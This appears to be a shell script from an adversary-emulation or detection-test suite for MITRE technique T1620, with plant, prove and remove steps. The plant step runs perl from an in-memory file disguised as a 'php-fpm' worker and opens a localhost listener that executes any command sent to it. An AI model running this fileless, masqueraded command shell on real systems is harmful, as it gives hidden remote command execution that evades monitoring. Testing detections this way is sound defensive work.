#!/bin/sh
# T1620 (loud): A program that runs from memory only
M=/var/tmp/luytre-foothold N=45-memfd
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
bg() { setsid nohup "$@" </dev/null >/dev/null 2>&1 & sleep 1; }
ends() { for p in $(pgrep -f -- "$1"); do [ "$p" = $$ ] || kill -9 "$p"; done 2>/dev/null; }
ask() { python3 -c 'import socket, sys
import time
for n in range(20):
    try: s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5); break
    except OSError: time.sleep(0.25)
s.settimeout(5); s.sendall((sys.argv[2] + "\n").encode()); s.shutdown(1); d = b""
while True:
    try: b = s.recv(999)
    except OSError: break
    if not b: break
    d += b
print(d.decode("utf-8", "replace"))' "$1" "$2"; }
plant() {
bg python3 -c '
import os
f=os.memfd_create("php-fpm")
os.write(f,open(os.path.realpath("/usr/bin/perl"),"rb").read())
os.execve(f"/proc/self/fd/{f}",["php-fpm: pool www","-MIO::Socket::INET","-e","$s=IO::Socket::INET->new(LocalAddr=>q(127.0.0.1),LocalPort=>47045,Listen=>5,ReuseAddr=>1);while($c=$s->accept){$l=<$c>;print $c `$l`;close $c}"],{})
'
}
prove() {
  rm -f "$M/$N"
  readlink /proc/[0-9]*/exe 2>/dev/null | grep -q memfd && ask 47045 "id > /var/tmp/luytre-foothold/45-memfd"; seen
}
remove() {
  ends 'php-fpm: pool www.*47045'
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
